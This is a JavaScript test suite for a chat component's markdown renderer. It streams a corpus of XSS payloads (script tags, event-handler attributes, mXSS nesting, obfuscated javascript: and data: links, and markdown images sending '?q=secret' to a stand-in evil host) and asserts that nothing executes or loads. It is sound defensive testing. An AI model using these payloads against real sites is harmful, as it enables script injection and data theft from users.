import '../../dist/company-chat.js';
import {
  assert,
  cleanup,
  createChat,
  endpoint,
  equal,
  messageBody,
  script,
  serverRequests,
  settled,
  waitFor,
} from './helpers.js';
import { context, body as markdownBody, renderOnce, renderStreamed } from './markdown-harness.js';

// `evil` is reachable (the test server answers /evil/*), so a request that slipped through would be logged.
const evil = `${endpoint}/evil`;
const payloads = [
  '<script>__pwned()</script>',
  '<img src=x onerror="__pwned()">',
  `<img src="${evil}/img-tag">`,
  '<svg onload=__pwned()><circle r="5"/></svg>',
  '<svg><script>__pwned()</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__pwned()>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=__pwned() src=x>">',
  '<iframe src="javascript:__pwned()"></iframe>',
  `<object data="${evil}/object"></object>`,
  `<link rel=stylesheet href="${evil}/link-css">`,
  `<style>@import '${evil}/style-import';</style>`,
  '<meta http-equiv="refresh" content="0;url=javascript:__pwned()">',
  '<details open ontoggle=__pwned()>x</details>',
  `<base href="${evil}/">`,
  '<a href="javascript:__pwned()">html link</a>',
  '[md link](javascript:__pwned())',
  '[case link](JaVaScRiPt:__pwned())',
  '[tab link](java\tscript:__pwned())',
  '[entity link](&#106;avascript:__pwned())',
  '[hex entity](&#x6A;avascript:__pwned())',
  '[colon entity](javascript&colon;__pwned())',
  '[space link]( javascript:__pwned())',
  '[angle link](<javascript:__pwned()>)',
  '[**bold js**](javascript:__pwned())',
  '[data link](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4=)',
  '[vb link](vbscript:msgbox(1))',
  '[relative](/evil/relative)',
  '<javascript:__pwned()>',
  `![exfil](${evil}/img-md?q=secret)`,
  '![js img](javascript:__pwned())',
  '![svg img](data:image/svg+xml,<svg onload=__pwned()>)',
  '![evil host](https://evil.example/?q=secret)',
  '| a | b |\n|---|---|\n| <img src=x onerror=__pwned()> | [t](javascript:__pwned()) |',
  '```html\n<script>__pwned()</script>\n```',
  '`<img src=x onerror=__pwned()>`',
];
const corpus = payloads.join('\n\n');

const allowedTags = new Set(
  'p h3 h4 strong em del code pre a ul ol li blockquote table thead tbody tr th td div span button br hr'.split(' '),
);

function split(text, size) {
  const out = [];
  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
  return out;
}

describe('XSS corpus: nothing executes, nothing loads', () => {
  let resources;
  let observer;
  beforeEach(() => {
    window.__xssFired = [];
    window.__pwned = () => window.__xssFired.push('__pwned');
    for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = () => window.__xssFired.push(name);
    resources = [];
    observer = new PerformanceObserver((list) => resources.push(...list.getEntries().map((e) => e.name)));
    observer.observe({ type: 'resource', buffered: false });
  });
  afterEach(() => {
    observer.disconnect();
    cleanup();
  });

  for (const size of [1, 3, 7, corpus.length]) {
    it(`streamed in chunks of ${size === corpus.length ? 'the whole text' : `${size} characters`}`, async () => {
      const scriptsBefore = document.querySelectorAll('script').length;
      const el = await createChat({ 'allowed-image-origins': 'https://img.example.com' });
      await el.send(script({ chunks: split(corpus, size) }));
      await settled(el, 2);
      equal(el.chat.getSnapshot().messages[1].content, corpus, 'the whole corpus arrived');
      const body = messageBody(el, 1);

      // Click every link that was rendered: none may run script.
      for (const a of body.querySelectorAll('a')) {
        assert(/^(https?:|mailto:)/.test(a.getAttribute('href')), `unsafe href ${a.getAttribute('href')}`);
        equal(a.getAttribute('rel'), 'noopener noreferrer', 'rel');
      }
      for (const node of body.querySelectorAll('*')) {
        assert(allowedTags.has(node.localName), `unexpected element <${node.localName}>`);
        for (const attr of node.attributes) assert(!attr.name.startsWith('on'), `event handler attribute ${attr.name}`);
      }
      equal(body.querySelectorAll('img').length, 0, 'no image element (no origin allowed matches)');
      // Raw HTML shows as text.
      assert(body.textContent.includes('<script>__pwned()</script>'), 'script tag visible as text');
      assert(body.textContent.includes('<img src=x onerror="__pwned()">'), 'img tag visible as text');

      // Nothing can run or load later: no script, image or event-handler attribute is in the DOM (above).
      equal(window.__xssFired.join(), '', 'no script ran');
      equal(document.querySelectorAll('script').length, scriptsBefore, 'no script added to the page');
      const leaked = resources.filter((url) => url.includes('/evil') || url.includes('evil.example'));
      equal(leaked.join(), '', 'no resource request left the page');
      const logged = (await serverRequests()).filter((r) => r.includes('/evil'));
      equal(logged.join(), '', 'the test server saw no request for /evil');
    });
  }

  it('through <cc-markdown> in seeded 1–4 character chunks, ends in the DOM of the one-shot render', async () => {
    const ctx = () => context({ imageOrigins: new Set(['https://img.example.com']) });
    const once = await renderOnce(corpus, ctx());
    for (const seed of [1, 2, 3]) {
      const streamed = await renderStreamed(corpus, seed, ctx());
      equal(markdownBody(streamed).innerHTML, markdownBody(once).innerHTML, `seed ${seed}`);
      streamed.remove();
    }
    for (const node of markdownBody(once).querySelectorAll('*')) {
      assert(allowedTags.has(node.localName), `unexpected element <${node.localName}>`);
    }
    once.remove();
    equal(window.__xssFired.join(), '', 'no script ran');
  });

  it('images load only from allowed origins', async () => {
    const el = await createChat({ 'allowed-image-origins': endpoint });
    await el.send(script({ chunks: [`![ok](${endpoint}/health?img=allowed)\n\n![no](https://evil.example/x.png)`] }));
    await settled(el, 2);
    const imgs = messageBody(el, 1).querySelectorAll('img');
    equal(imgs.length, 1, 'one image');
    equal(imgs[0].getAttribute('src'), `${endpoint}/health?img=allowed`, 'allowed src');
    equal(imgs[0].getAttribute('referrerpolicy'), 'no-referrer', 'no referrer');
    assert(messageBody(el, 1).textContent.includes('[image not loaded: no]'), 'blocked image shows its alt text');
    // The detector works: the allowed image's request is seen by the server log.
    await waitFor(
      async () => (await serverRequests()).includes('GET /health?img=allowed'),
      'allowed image was requested',
    );
  });
});
